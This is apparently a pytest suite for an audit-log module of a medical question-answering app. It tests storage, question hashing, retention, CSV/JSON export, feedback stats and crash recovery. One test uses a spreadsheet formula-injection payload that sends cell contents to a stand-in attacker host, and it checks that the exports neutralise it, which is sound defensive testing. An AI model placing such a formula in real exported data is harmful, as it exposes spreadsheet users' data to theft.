"""The audit log (app.audit) on real SQLite files: rows, hashing, retention, export, feedback, events, and a
writer killed with SIGKILL mid-run."""
from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time

import pytest

from app.audit import AuditLog
from app.decision import Decision
from app.types import Answer, Citation, Passage
from ingest.types import Chunk
from tests.conftest import REPO


def make_answer(question="Do statins prevent dementia?", mode="lora+rag", adapter="med@v2", passages=2):
    ps = [Passage(Chunk(f"doc{i}#0", f"doc{i}", "text", 0, 4, {}), 0.9 - i / 10, i + 1) for i in range(passages)]
    cites = [Citation(1, True, ps[0] if ps else None), Citation(7, False)]
    return Answer(text="Yes [1] [7]", mode=mode, adapter=adapter, passages=ps, citations=cites,
                  timings={"prompt_tokens": 120, "new_tokens": 9, "generation_s": 0.5}, question=question,
                  decision=Decision("yes", {"yes": 0.7, "no": 0.2, "maybe": 0.1}, {}),
                  settings={"index": "pubmedqa", "k": 2})


def test_rows_are_written_and_read_back(tmp_path):
    log = AuditLog(tmp_path / "a.sqlite")
    aid = log.record(make_answer(), "ui", 1.25, route={"adapter": "med", "score": 0.71})
    bid = log.record(make_answer("Is tea good?", "base", None, 0), "cli", 0.4, route={"adapter": None, "score": 0.2})
    assert len(aid) == 32 and aid != bid
    a, b = log.answers()
    assert (a["id"], a["entry_point"], a["question"], a["mode"], a["adapter"]) == (
        aid, "ui", "Do statins prevent dementia?", "lora+rag", "med@v2")
    assert a["index_name"] == "pubmedqa" and a["doc_ids"] == ["doc0", "doc1"] and a["citations"] == [1]
    assert a["decision"] == "yes" and a["decision_probs"]["yes"] == 0.7
    assert (a["latency_s"], a["prompt_tokens"], a["new_tokens"]) == (1.25, 120, 9)
    assert (a["route_adapter"], a["route_score"], a["out_of_scope"]) == ("med", 0.71, 0)
    assert a["time"].endswith("+00:00") and abs(a["ts"] - time.time()) < 60
    assert b["index_name"] is None and b["doc_ids"] == [] and b["adapter"] is None and b["out_of_scope"] == 1
    assert [r["id"] for r in log.answers(limit=1)] == [bid]
    assert log.answers(since=time.time() + 10) == []
    with pytest.raises(ValueError, match="entry_point"):
        log.record(make_answer(), "web", 1.0)


def test_hashed_mode_stores_no_clear_text(tmp_path):
    path = tmp_path / "h.sqlite"
    log = AuditLog(path, hash_questions=True)
    secret = "Does my neighbour John Smith have HIV?"
    log.record(make_answer(secret), "api", 0.3)
    log.close()
    row = AuditLog(path).answers()[0]
    import hashlib

    assert row["question"] is None and row["question_hash"] == hashlib.sha256(secret.encode()).hexdigest()
    for f in path.parent.iterdir():  # nowhere in the database files (main, WAL)
        assert b"John Smith" not in f.read_bytes()


def test_a_log_from_an_earlier_version_gains_the_new_columns(tmp_path):
    path = tmp_path / "old.sqlite"
    conn = sqlite3.connect(path)  # the answers table as written before the `cancelled` column existed
    conn.execute("CREATE TABLE answers (seq INTEGER PRIMARY KEY AUTOINCREMENT, id TEXT NOT NULL UNIQUE, "
                 "time TEXT NOT NULL, ts REAL NOT NULL, entry_point TEXT NOT NULL, question TEXT)")
    conn.execute("INSERT INTO answers (id, time, ts, entry_point, question) VALUES ('a1', 't', 1.0, 'ui', 'old?')")
    conn.commit()
    conn.close()
    log = AuditLog(path)
    log.record(make_answer("new?"), "cli", 0.1, cancelled=True)
    rows = log.answers()
    assert [(r["question"], r["cancelled"]) for r in rows] == [("old?", 0), ("new?", 1)]


def test_retention_drops_the_oldest_rows(tmp_path):
    log = AuditLog(tmp_path / "r.sqlite", retention=5)
    ids = [log.record(make_answer(f"q{i}?"), "eval", 0.1) for i in range(12)]
    assert [r["id"] for r in log.answers()] == ids[-5:]  # pruned as it wrote (every write at this size)
    big = AuditLog(tmp_path / "r2.sqlite", retention=1000)
    ids = [big.record(make_answer(f"q{i}?"), "eval", 0.1) for i in range(8)]
    big.retention = 3
    assert big.prune() == 5 and [r["id"] for r in big.answers()] == ids[-3:]


def test_export_csv_and_json(tmp_path):
    log = AuditLog(tmp_path / "e.sqlite")
    for i in range(3):
        log.record(make_answer(f"q{i}?"), "ui", 0.5 + i)
    log.event("disable", "med", "alice", "bad answers", {"version": 2})
    assert log.export(tmp_path / "out.csv", "csv") == 3
    rows = list(csv.DictReader((tmp_path / "out.csv").open()))
    assert [r["question"] for r in rows] == ["q0?", "q1?", "q2?"] and json.loads(rows[0]["doc_ids"]) == ["doc0", "doc1"]
    assert log.export(tmp_path / "out.json", "json") == 3
    data = json.loads((tmp_path / "out.json").read_text())
    assert [r["latency_s"] for r in data] == [0.5, 1.5, 2.5] and data[0]["citations"] == [1]
    assert log.export(tmp_path / "events.json", "json", table="events") == 1
    assert json.loads((tmp_path / "events.json").read_text())[0]["detail"] == {"version": 2}
    with pytest.raises(ValueError, match="csv' or 'json"):
        log.export(tmp_path / "x.xml", "xml")


def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path):
    from app.audit import spreadsheet_safe

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    log = AuditLog(tmp_path / "x.sqlite")
    log.record(make_answer(formula), "api", 0.2)
    log.event("disable", "med", "@alice", "-bad", {"version": 2})
    rows = list(csv.DictReader(io.StringIO(log.export_text("csv")[0])))
    assert rows[0]["question"] == "'" + formula
    event = list(csv.DictReader(io.StringIO(log.export_text("csv", "events")[0])))[0]
    assert (event["who"], event["why"]) == ("'@alice", "'-bad")
    assert [spreadsheet_safe(v) for v in ("-0.25", "+3", "1e-3", "plain", 2.5)] == ["-0.25", "+3", "1e-3", "plain", 2.5]
    assert log.export_text("json")[0].count(formula.replace('"', '\\"')) == 1  # JSON keeps the text as it was


def test_feedback_attaches_and_events_are_kept(tmp_path):
    log = AuditLog(tmp_path / "f.sqlite")
    aid = log.record(make_answer(), "ui", 1.0)
    log.feedback(aid, "down", "  wrong trial  ")
    row = log.answers()[0]
    assert (row["rating"], row["comment"]) == ("down", "wrong trial") and row["rated_time"]
    with pytest.raises(ValueError, match="no answer with id"):
        log.feedback("nope", "up")
    with pytest.raises(ValueError, match="rating must be one of"):
        log.feedback(aid, "meh")
    log.event("rollback", "med", "bob", "v3 regressed", {"from": 3, "to": 2})
    log.event("enable", "med", "bob", "fixed")
    assert [(e["kind"], e["who"]) for e in log.events()] == [("enable", "bob"), ("rollback", "bob")]
    assert log.events(limit=1)[0]["kind"] == "enable"


def test_stats_for_the_monitor_page(tmp_path):
    log = AuditLog(tmp_path / "s.sqlite")
    for i in range(10):
        route = {"adapter": None if i < 3 else "med", "score": 0.1 * i}
        aid = log.record(make_answer(f"q{i}?", "lora" if i % 2 else "base"), "ui", float(i + 1), route=route)
        if i < 4:
            log.feedback(aid, "up" if i else "down")
    log.record(make_answer("unrouted?"), "cli", 20.0)
    s = log.stats(3600)
    assert s["total"] == 11 and s["bucket"] == "hour"
    assert sum(v["count"] for v in s["volume"]) == 11
    assert {v["mode"] for v in s["volume"]} == {"base", "lora", "lora+rag"}
    assert s["latency"]["p50"] == 6.0 and 10.0 < s["latency"]["p95"] <= 20.0
    assert s["feedback"]["up"] == 3 and s["feedback"]["down"] == 1 and s["feedback"]["approval"] == 0.75
    oos = s["out_of_scope"]
    assert (oos["routed"], oos["count"], oos["share"]) == (10, 3, 0.3)
    assert [r["question"] for r in oos["recent"]] == ["q2?", "q1?", "q0?"]
    assert AuditLog(tmp_path / "empty.sqlite").stats(3600)["total"] == 0
    for i in range(5):  # an evaluation's one-token answers do not drown what users were served
        log.record(make_answer(f"e{i}?"), "eval", 0.01)
    assert log.stats(3600)["total"] == 16 and log.stats(3600, entry_points=("ui", "cli", "api"))["total"] == 11
    assert log.stats(3600, entry_points=("ui", "cli", "api"))["latency"]["p50"] == 6.0


def test_a_log_that_cannot_be_written_is_refused_at_start(tmp_path):
    (tmp_path / "a-folder").mkdir()
    with pytest.raises(ValueError, match=r"audit log .*a-folder cannot be written .*--no-audit"):
        AuditLog(tmp_path / "a-folder").check()
    AuditLog(tmp_path / "a-folder", enabled=False).check()  # off: nothing to check
    AuditLog(tmp_path / "ok.sqlite").check()


def test_disabled_log_records_nothing(tmp_path, monkeypatch):
    log = AuditLog(tmp_path / "d.sqlite", enabled=False)
    assert log.record(make_answer(), "ui", 1.0) == "" and log.event("disable", "m", "a", "b") == ""
    log.feedback("", "up")
    assert log.answers() == [] and log.events() == [] and not (tmp_path / "d.sqlite").exists()
    monkeypatch.setenv("LORACLE_AUDIT", "off")
    assert AuditLog().enabled is False
    monkeypatch.setenv("LORACLE_AUDIT", str(tmp_path / "env.sqlite"))
    AuditLog().record(make_answer(), "ui", 1.0)
    assert (tmp_path / "env.sqlite").exists()
    monkeypatch.delenv("LORACLE_AUDIT")
    monkeypatch.setenv("LORACLE_HOME", str(tmp_path / "home"))
    assert AuditLog().path == tmp_path / "home" / "audit" / "audit.sqlite"


WRITER = """
import sys
from app.audit import AuditLog
from app.types import Answer
log = AuditLog(sys.argv[1], retention=10**9)
i = 0
while True:
    log.record(Answer(text="t" * 200, mode="base", adapter=None, question=f"question {i}?"), "eval", 0.01)
    i += 1
    print(i, flush=True)
"""


def test_readable_after_sigkill_of_the_writer_mid_run(tmp_path):
    path = tmp_path / "killed.sqlite"
    proc = subprocess.Popen([sys.executable, "-c", WRITER, str(path)], cwd=REPO, stdout=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONPATH": str(REPO)})
    committed = 0
    try:
        deadline = time.time() + 120
        while committed < 300 and time.time() < deadline:
            line = proc.stdout.readline()
            if not line:
                break
            committed = int(line)
    finally:
        os.kill(proc.pid, signal.SIGKILL)  # mid-run: the writer is inside its loop
        proc.wait(30)
    assert proc.returncode == -signal.SIGKILL and committed >= 300
    conn = sqlite3.connect(str(path))
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    n = conn.execute("SELECT count(*) FROM answers").fetchone()[0]
    conn.close()
    assert n >= committed  # every row it reported committed is there (and maybe a few more)
    rows = AuditLog(path).answers()
    assert [r["question"] for r in rows[:committed]] == [f"question {i}?" for i in range(committed)]
